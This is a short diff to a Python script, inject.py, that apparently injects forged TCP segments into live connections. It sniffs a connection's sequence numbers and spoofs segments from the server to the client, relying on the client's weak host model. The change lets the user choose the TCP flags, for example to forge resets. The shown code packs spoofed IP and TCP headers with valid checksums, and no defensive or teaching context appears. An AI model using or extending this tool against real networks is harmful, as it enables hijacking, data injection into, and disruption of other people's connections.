@@ -2,7 +2,7 @@
 
 `inject.py sniff DEVICE PORT` prints, as JSON lines, where a connection to PORT stands whenever a
 segment passes. `inject.py send DEVICE MAC` reads such a line on standard input, with "data" in
-hexadecimal, and sends one segment from the server's address to the client's, in a frame for MAC: the
+hexadecimal and, where it is to be another than ACK and PSH, "set", the flags, and sends one segment from the server's address to the client's, in a frame for MAC: the
 client's weak host model takes it in although it comes over the wrong device.
 """
 
@@ -49,7 +49,7 @@ def send(device, mac):
     data = bytes.fromhex(at["data"])
     source, target = socket.inet_aton(at["server"]), socket.inet_aton(at["client"])
     tcp = struct.pack(">HHIIBBHHH", at["dport"], at["sport"], at["server_next"],
-                      at["client_next"], 5 << 4, ACK_PSH, 65000, 0, 0) + data
+                      at["client_next"], 5 << 4, at.get("set", ACK_PSH), 65000, 0, 0) + data
     pseudo = source + target + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
     tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0,
